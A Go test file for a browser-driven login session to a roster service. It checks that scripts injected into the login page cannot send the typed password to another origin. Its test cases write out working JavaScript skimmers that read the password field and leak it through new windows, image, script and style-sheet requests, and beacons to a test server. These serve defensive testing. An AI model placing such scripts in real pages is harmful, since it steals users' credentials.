package session_test

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rosteron/rosteron/internal/chrometest"
	"github.com/rosteron/rosteron/mockserver"
	"github.com/rosteron/rosteron/session"
)

// injecting serves m with html added before </body> of every page whose
// path ends in suffix (every page for an empty suffix).
func injecting(t *testing.T, m *mockserver.Server, suffix, html string) *httptest.Server {
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		m.ServeHTTP(rec, r)
		body := rec.Body.Bytes()
		if strings.HasSuffix(r.URL.Path, suffix) && r.Method == http.MethodGet {
			body = bytes.Replace(body, []byte("</body>"), []byte(html+"</body>"), 1)
		}
		for k, v := range rec.Header() {
			w.Header()[k] = v
		}
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		w.WriteHeader(rec.Code)
		w.Write(body)
	}))
	t.Cleanup(ts.Close)
	return ts
}

// attack is a script on the login page that, as the login button is
// clicked and the form submitted (in the capture phase, so before any
// handler of the page's own), sends the typed password to the other
// origin with send, a JavaScript function of the password.
func attack(send string) string {
	return `<script>
const leak = () => { const pw = document.querySelector('input[name="Password"]').value; if (pw) (` + send + `)(pw); };
document.addEventListener('click', leak, true);
document.addEventListener('submit', leak, true);
</script>`
}

// Whatever a script on the login page does with the typed password,
// the other origin gets nothing of it: a new window, or a GET of a
// script, image or style sheet with the password in its query. (A
// WebSocket is not contained: see browser.AllowOrigins.)
func TestLoginPageScriptCannotSendThePasswordElsewhere(t *testing.T) {
	cases := []struct {
		name string
		send func(other string) string
		// fails is whether the login fails with ErrOtherOrigin: a new
		// window after typing could carry the form; the rest are refused
		// silently, and the login goes on.
		fails bool
		// popup needs a Chrome started with --block-new-web-contents.
		popup bool
	}{
		{"the form is retargeted to a new window elsewhere", func(o string) string {
			return `pw => { const f = document.querySelector('form'); f.action = '` + o + `/form'; f.target = '_blank'; }`
		}, true, true},
		{"a link opens a new window elsewhere", func(o string) string {
			return `pw => { const a = document.createElement('a'); a.href = '` + o + `/link?p=' + encodeURIComponent(pw); a.target = '_blank'; document.body.append(a); a.click(); }`
		}, true, true},
		{"a frame's window.open", func(o string) string {
			return `pw => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('` + o + `/open?p=' + encodeURIComponent(pw)); }`
		}, true, true},
		{"a script's GET", func(o string) string {
			return `pw => { const s = document.createElement('script'); s.src = '` + o + `/s.js?p=' + encodeURIComponent(pw); document.head.append(s); }`
		}, false, false},
		{"an image's GET", func(o string) string {
			return `pw => { new Image().src = '` + o + `/i.gif?p=' + encodeURIComponent(pw); }`
		}, false, false},
		{"a style sheet's GET", func(o string) string {
			return `pw => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '` + o + `/c.css?p=' + encodeURIComponent(pw); document.head.append(l); }`
		}, false, false},
	}
	// RenderAlways runs the login page's scripts, which the tab must
	// then contain; RenderAuto runs none of them on a page that holds
	// its form, and the login goes on as if there were no script.
	for _, c := range cases {
		for _, mode := range []session.Render{session.RenderAlways, session.RenderAuto} {
			t.Run(c.name+" "+mode.String(), func(t *testing.T) {
				if c.popup && chrometest.Remote() != "" {
					t.Skip("a remote Chrome may lack --block-new-web-contents")
				}
				other := newOtherSite(t)
				m := mockserver.New(mockserver.WithClock(func() time.Time { return fixedNow }))
				t.Cleanup(m.Close)
				ts := injecting(t, m, "/Account/Login", attack(c.send(other.ts.URL)))
				s := newSession(t, ts.URL+m.BasePath(), session.WithScreenshots(t.TempDir()), session.WithRender(mode))
				err := s.LogIn(ctxT(t), mockserver.DemoUsername, mockserver.DemoPassword)
				if c.fails && mode == session.RenderAlways {
					assertOtherOrigin(t, err, session.PurposeHome, ts, other.ts)
				} else {
					require.NoError(t, err, "a refused GET fails nothing, and a script that does not run nothing")
					_, err = s.GetRoster(ctxT(t))
					require.NoError(t, err)
				}
				require.NoError(t, s.Close())
				assert.Equal(t, 0, m.Sessions(), "logged out")
				other.assertNoPassword(t, mockserver.DemoPassword)
				other.mu.Lock()
				assert.Empty(t, other.seen, "the other origin got no request at all")
				other.mu.Unlock()
			})
		}
	}
}

// A page's own requests elsewhere (an analytics beacon, an image from a
// CDN) are refused silently: they fail no step, before the login, after
// it, or on the roster, whether pages are rendered or not.
func TestRequestsElsewhereThatCannotCarryTheFormFailNothing(t *testing.T) {
	for _, always := range []bool{false, true} {
		t.Run("always="+strconv.FormatBool(always), func(t *testing.T) {
			other := newOtherSite(t)
			m := mockserver.New(mockserver.WithClock(func() time.Time { return fixedNow }))
			t.Cleanup(m.Close)
			ts := injecting(t, m, "", `<img src="`+other.ts.URL+`/pixel.gif"><script>navigator.sendBeacon('`+other.ts.URL+`/beacon', 'hello');</script>`)
			var opts []session.Option
			if always {
				opts = append(opts, session.WithRender(session.RenderAlways))
			}
			s := newSession(t, ts.URL+m.BasePath(), opts...)
			require.NoError(t, s.LogIn(ctxT(t), mockserver.DemoUsername, mockserver.DemoPassword))
			snap, err := s.GetRoster(ctxT(t))
			require.NoError(t, err)
			assert.Equal(t, demoRoster(), snap.Items)
			require.NoError(t, s.Close())
			assert.Equal(t, 0, m.Sessions())
			other.mu.Lock()
			assert.Empty(t, other.seen, "refused all the same")
			other.mu.Unlock()
		})
	}
}

// Submitted tells a login RosterOn answered from one that failed before
// its form was sent, which says nothing about the password.
func TestSubmitted(t *testing.T) {
	// A script removes the password field as it is about to be filled:
	// the form could not be filled in, so nothing was sent.
	broken := loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
document.querySelector('input[name="UserName"]').addEventListener('focus', () => document.querySelector('input[name="Password"]').remove());
</script>`))
	s := newSession(t, broken.URL+"/Mobile", session.WithRender(session.RenderAlways))
	err := s.LogIn(ctxT(t), "joe.bloggs", testPassword)
	var bad *session.BadResponseError
	require.ErrorAs(t, err, &bad)
	assert.Equal(t, session.PurposeHome, bad.Purpose)
	assert.Contains(t, err.Error(), "could not fill in the login form")
	assert.False(t, session.Submitted(err))

	// A form posted and answered with a page that is not the home page:
	// RosterOn saw the login.
	posted := loginSite(t, loginPage(`action="/Mobile/Elsewhere"`, "", ""))
	s = newSession(t, posted.URL+"/Mobile")
	err = s.LogIn(ctxT(t), "joe.bloggs", testPassword)
	require.ErrorAs(t, err, &bad)
	assert.Equal(t, session.PurposeHome, bad.Purpose)
	assert.True(t, session.Submitted(err), "%v", err)

	assert.False(t, session.Submitted(nil))
}
